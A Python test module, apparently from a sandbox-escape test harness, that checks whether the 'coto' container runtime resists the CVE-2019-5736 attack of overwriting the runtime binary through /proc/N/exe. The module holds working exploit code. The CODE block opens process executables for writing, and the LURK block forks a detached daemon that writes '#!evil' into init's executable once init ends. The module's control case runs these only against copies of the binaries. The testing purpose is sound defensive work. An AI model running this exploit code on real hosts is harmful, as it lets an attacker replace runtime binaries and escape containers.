"""ML-01: overwrite the runtime through /proc/N/exe while it runs (CVE-2019-5736)."""
import hashlib
import os
import shutil
import time

from cli.helpers import BIN
from escape.harness import WEAK, escaped
from escape.lib_files import TRY, counted, folder, room

TITLE = "the runtime's own file through /proc/N/exe"
TRIED = ("open of every /proc/N/exe and map_files for writing, re-opened O_PATH handles, #!/proc/self/exe, for 0.3 s; "
         "a handle kept until init has ended, on programs that everybody may write")
WALLS = ["uid", "pid_namespace", "landlock"]

# Handles are kept and tried again: the file cannot be written while it is executed.
CODE = TRY + """
found, handles = {}, []
def note(name, path, flags):
    try: handles.append(os.open(path, flags))
    except OSError as reason: word = errno.errorcode[reason.errno]
    else: word = "done"
    found[name] = "done" if found.get(name) == "done" else word
end = time.monotonic() + 0.3
while time.monotonic() < end:
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        for flags, word in ((os.O_WRONLY, "write"), (os.O_RDWR, "read and write"), (os.O_RDONLY, "read"),
                            (os.O_PATH, "path"), (os.O_WRONLY | os.O_TRUNC, "cut")):
            note(f"init {word}" if pid == "1" else f"other {word}", f"/proc/{pid}/exe", flags)
    note("init link", "/proc/1/map_files", os.O_RDONLY)
    for fd in handles:
        note("again", f"/proc/self/fd/{fd}", os.O_WRONLY)
print(json.dumps([found, os.path.exists("/proc/1/exe") and attempt(os.readlink, "/proc/1/exe")]))
"""
# Our own interpreter is executed once more by its magic name: harmless, but it must be no file of coto's.
SCRIPT = """
import os, subprocess
open("s", "w").write("#!/proc/self/exe\\nprint(1)\\n"); os.chmod("s", 0o755)
try: print(subprocess.run(["./s"], capture_output=True, timeout=5).returncode)
except OSError as reason: print(reason.errno)
"""
# What is executed cannot be written: somebody waits with a handle until init is gone, as in the CVE.
LURK = """
import os, time
init = os.getppid() or 1
fd = os.open(f"/proc/{init}/exe", os.O_RDONLY)
if os.fork() == 0:
    if os.fork(): os._exit(0)
    os.setsid()
    for n in (0, 1, 2): os.close(n)
    end = time.monotonic() + 10
    while time.monotonic() < end:
        try: os._exit(os.write(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY), b"#!evil"))
        except OSError: time.sleep(0.01)
os.wait()
"""


def lurk(box, here, source, **more):
    """A copy of coto's programs that everybody may write, started; the result and whether the copy was written."""
    copies = folder(here / "programs")
    for name in ("coto", "coto-init", "coto-policy"):
        shutil.copy(source / name, copies / name)
        (copies / name).chmod(0o777)
    before = programs(copies)
    argv, env = box.command(LURK, **more)
    argv[len(box.prefix)] = str(copies / "coto")
    done = box.start_and_wait(argv, env=env)
    end = time.monotonic() + (5 if done.status == 0 else 0)
    while programs(copies) == before and time.monotonic() < end:
        time.sleep(0.02)
    return done, programs(copies) != before


def programs(place):
    paths = [place / name for name in ("coto", "coto-init")]
    return {str(path): (hashlib.sha256(path.read_bytes()).hexdigest(), os.stat(path).st_mtime_ns,
                        os.stat(path).st_mode) for path in paths}


def attack(box):
    before = programs(BIN)
    found, link = box.inside(CODE)
    opened = [name for name, word in found.items() if word == "done"]
    if opened or link == "done":
        escaped("WRITE", f"opened: {opened or '/proc/1/exe'}")
    assert box.python(SCRIPT).verdict == "ok"
    if programs(BIN) != before:
        escaped("WRITE", "coto's own programs have changed")
    if not box.level:  # the others take coto-init from elsewhere
        with room() as here:
            done, written = lurk(box, here, BIN)
            if written or done.status != 1 or b"PermissionError" not in done.err:
                escaped("WRITE", f"a copy that everybody may write: {done}")
    return counted(found.values())


def control(box):
    """An init that can be looked into gives a handle on its program; who outlives it writes there. Only a copy."""
    before = programs(WEAK)
    found, link = box.inside(CODE, without=["dumpable", "landlock"])
    assert link == "done" and found["init read"] == "done", found
    with room() as here:
        done, written = lurk(box, here, WEAK, without=["dumpable", "landlock", "pid_namespace", "kill_all", "cgroup"])
    assert written, done
    assert programs(WEAK) == before
    opened = ", ".join(name for name, word in found.items() if word == "done")
    return f"/proc/1/exe opened: {opened}; a copy of coto-init overwritten"
